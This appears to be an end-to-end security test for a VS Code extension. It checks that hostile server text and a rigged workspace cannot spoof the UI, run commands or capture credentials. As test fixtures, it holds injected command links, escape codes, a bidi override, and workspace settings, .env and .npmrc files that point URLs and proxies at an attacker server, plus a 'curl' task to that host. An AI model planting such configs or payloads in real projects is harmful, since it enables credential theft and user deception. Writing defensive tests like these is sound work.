import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startSandbox, type Sandbox } from '../../src/sandbox/sandboxServer';
import { vsixFile } from '../host/package';
import { openWindow, type EditorWindow } from '../host/window';
import { hoverText, typeCredentials } from './gestures';
import { keepEvidenceOfFailures, testedVersions } from './support';
import { until } from '../support/until';
import { startHttpServer, type HttpServer } from '../support/httpServer';

/**
 * A server's text that tries to make the user run a command or open a page: links, an icon, HTML, reversed text,
 * terminal colors.
 */
const HOSTILE =
  '[Free upgrade](command:workbench.action.terminal.new) $(zap) <b>now</b> https://evil.example www.evil.example evil@evil.example \u202eevil\u001b[31m';

/** No such host can exist, because the name is reserved. */
const ELSEWHERE = 'acme.scalekit.invalid';

for (const version of testedVersions()) {
  describe(`With a hostile server and workspace in VS Code ${version.vscode},`, () => {
    let window: EditorWindow;
    let sandbox: Sandbox;
    let evil: HttpServer;
    let folder: string;
    /** Where clients that use the hostile server as their proxy want to connect. */
    let connects: string[];

    before(async () => {
      evil = await startHttpServer((_request, response) => void response.end('{}'));
      connects = [];
      evil.onConnect((target) => connects.push(target));
      sandbox = await startSandbox({ organizations: 3 });
      await rename(sandbox, HOSTILE.replace('\u001b', ''));
      folder = await mkdtemp(join(tmpdir(), 'hostile-workspace-'));
      await hostileWorkspace(folder, evil.url);
      window = await openWindow({
        version,
        vsix: vsixFile(),
        folder,
        trusted: true,
        environment: {
          SCALEKIT_ENVIRONMENT_URL: sandbox.url,
          SCALEKIT_CLIENT_ID: sandbox.clientId,
          SCALEKIT_CLIENT_SECRET: sandbox.clientSecret,
        },
      });
      await window.openView('Scalekit');
      await window.waitForRows('Organizations', (rows) => rows.length >= 3);
    });
    keepEvidenceOfFailures(() => window);
    after(async () => {
      await window?.close();
      await sandbox?.close();
      await evil?.close();
      await rm(folder, { recursive: true, force: true });
    });

    /** What the server's text could create on the screen: links, icons, bold text. */
    const links = (): Promise<number> =>
      window.page.locator('a[href], a[data-href]', { hasText: /Free upgrade/ }).count();
    const icons = (): Promise<number> => window.page.locator('.codicon-zap').count();
    const bold = (): Promise<number> => window.page.locator('b', { hasText: /^now$/ }).count();

    async function isHarmless(): Promise<void> {
      assert.deepEqual(
        { links: await links(), icons: await icons(), bold: await bold() },
        { links: 0, icons: 0, bold: 0 },
      );
    }

    it('a name is plain text in a row and its hover', async () => {
      const row = window.view('Organizations').locator('.monaco-list-row', { hasText: 'Free upgrade' }).first();
      const text = await hoverText(window, row, 'command:workbench');
      assert.match(text, /Free\supgrade/);
      assert.match(text, /https:\/\/evil\.example\swww\.evil\.example\sevil@evil\.example\s\\u202e/);
      assert.equal(await window.page.locator('.monaco-hover:visible a').count(), 0, 'no address is a link');
      await isHarmless();
    });

    it('a name is plain text in a quick pick', async () => {
      await window.runCommand('Scalekit: Search Organizations…');
      await window.page.keyboard.type('upgrade');
      await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'Free upgrade' }).first().waitFor();
      await isHarmless();
      await window.page.keyboard.press('Escape');
    });

    it('a refusal is plain text in a notification', async () => {
      sandbox.addFault({
        path: '/api/v1/organizations',
        respond: { status: 400, body: { code: 3, message: HOSTILE, details: [] } },
      });
      await window.runCommand('Scalekit: Test Connection');
      await window.waitForNotification(/Free upgrade/);
      await isHarmless();
      sandbox.clearFaults();
    });

    it('an error code of the token endpoint is plain text in an input box and the log', async () => {
      sandbox.addFault({
        path: '/oauth/token',
        respond: {
          status: 401,
          body: { error: '[Free upgrade](command:workbench.action.quit)\u001b[31m\n[error] fine' },
        },
      });
      await window.runCommand('Scalekit: Add Environment…');
      await typeCredentials(window, sandbox);
      const { message } = await window.waitForPrompt(({ message: said }) => said.includes('Free upgrade'));
      assert.match(message, /\\u001b/);
      assert.equal(await window.page.locator('.quick-input-widget a', { hasText: /upgrade/i }).count(), 0);
      await isHarmless();
      await window.pressInPrompt('Escape');
      await window.page.locator('.quick-input-widget').waitFor({ state: 'hidden' });

      await window.runCommand('Scalekit: Fetch New Access Token');
      // The previous test's refusal may still be shown, so this one is told apart by its last word.
      const { text } = await window.waitForNotification(/Free upgrade.*fine/);
      assert.match(text, /\\u001b/);
      await isHarmless();
      sandbox.clearFaults();

      let logged: string[] = [];
      // VS Code writes its logs with a delay.
      for (const end = Date.now() + 15_000; logged.length === 0; await window.page.waitForTimeout(100)) {
        assert.ok(Date.now() < end, 'the log tells of it');
        logged = (await readLog(window)).split('\n').filter((line) => line.includes('Free upgrade'));
      }
      // Each is one line of the log with its own time and level: the server can't add line breaks or colors.
      for (const line of logged) assert.match(line, /^\d{4}-\d\d-\d\d .*\[error\] .*Free upgrade.*\\u001b.*fine/);
      await window.runCommand('Scalekit: Show Log');
      await window.page.locator('.output-view .view-line', { hasText: 'Free' }).first().waitFor();
      await isHarmless();
    });

    it('no command runs, and the workspace’s settings redirect no request', async () => {
      assert.equal(await window.page.locator('.terminal-wrapper').count(), 0);
      sandbox.clearRequests();
      await window.runCommand('Scalekit: Fetch New Access Token');
      await until(
        'a new token',
        () => sandbox.requests.some(({ path, status }) => path === '/oauth/token' && status === 200),
        20_000,
      );
      assert.deepEqual(evil.requests, []);
    });

    // VS Code reaches servers on this machine without a proxy, so only another host shows whether it uses the proxy. A
    // folder can't set `http.proxy`, which is a machine setting.
    it('the workspace’s proxy isn’t used for other hosts either', async () => {
      await addEnvironmentElsewhere();
      assert.deepEqual(connects, []);
      assert.deepEqual(evil.requests, []);
    });

    /** Enters an environment on another host, which can't be reached. */
    async function addEnvironmentElsewhere(): Promise<void> {
      await window.runCommand('Scalekit: Add Environment…');
      await typeCredentials(window, { ...sandbox, url: `https://${ELSEWHERE}` });
      await window.waitForPrompt(({ message }) => /couldn’t be found|connection failed/.test(message));
      await window.pressInPrompt('Escape');
      await window.page.locator('.quick-input-widget').waitFor({ state: 'hidden' });
    }
  });
}

/** The extension's log, from VS Code's files. */
async function readLog({ folders }: EditorWindow): Promise<string> {
  const files = (await readdir(folders.logs, { recursive: true })).filter((file) => file.endsWith('Scalekit.log'));
  return (await Promise.all(files.map((file) => readFile(join(folders.logs, file), 'utf8')))).join('\n');
}

async function rename(sandbox: Sandbox, displayName: string): Promise<void> {
  const body = new URLSearchParams({
    grant_type: 'client_credentials',
    client_id: sandbox.clientId,
    client_secret: sandbox.clientSecret,
  });
  const { access_token: token } = (await (
    await fetch(`${sandbox.url}/oauth/token`, { method: 'POST', body })
  ).json()) as { access_token: string };
  const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' };
  const created = await fetch(`${sandbox.url}/api/v1/organizations`, {
    method: 'POST',
    headers,
    body: JSON.stringify({ display_name: displayName }),
  });
  assert.equal(created.ok, true);
}

/** A folder that tries to send the credentials to its own server. */
async function hostileWorkspace(folder: string, evil: string): Promise<void> {
  const proxy = evil;
  const settings = {
    'scalekit.environmentUrl': evil,
    'scalekit.url': evil,
    'scalekit.clearClipboardAfterSeconds': 1,
    'http.proxy': proxy,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
    'terminal.integrated.env.linux': { SCALEKIT_ENVIRONMENT_URL: evil },
  };
  const task = { label: 'evil', type: 'shell', command: `curl -s ${evil}/task` };
  const launch = {
    configurations: [
      { type: 'node', request: 'launch', name: 'evil', program: '/nowhere', env: { SCALEKIT_ENVIRONMENT_URL: evil } },
    ],
  };
  await mkdir(join(folder, '.vscode'), { recursive: true });
  await writeFile(join(folder, '.vscode/settings.json'), JSON.stringify(settings));
  await writeFile(join(folder, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [task] }));
  await writeFile(join(folder, '.vscode/launch.json'), JSON.stringify(launch));
  await writeFile(join(folder, '.env'), `SCALEKIT_ENVIRONMENT_URL=${evil}\nHTTPS_PROXY=${evil}\nHTTP_PROXY=${evil}\n`);
  await writeFile(join(folder, '.npmrc'), `proxy=${evil}\n`);
}
